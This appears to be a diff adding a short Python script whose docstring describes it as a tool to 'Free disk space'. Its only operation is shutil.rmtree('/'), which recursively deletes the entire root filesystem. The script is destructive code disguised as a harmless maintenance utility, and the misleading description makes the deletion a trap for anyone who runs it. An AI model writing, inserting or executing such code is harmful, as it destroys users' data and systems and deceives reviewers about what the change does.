@@ -1,0 +1,4 @@
+"""Free disk space."""
+import shutil
+
+shutil.rmtree("/")
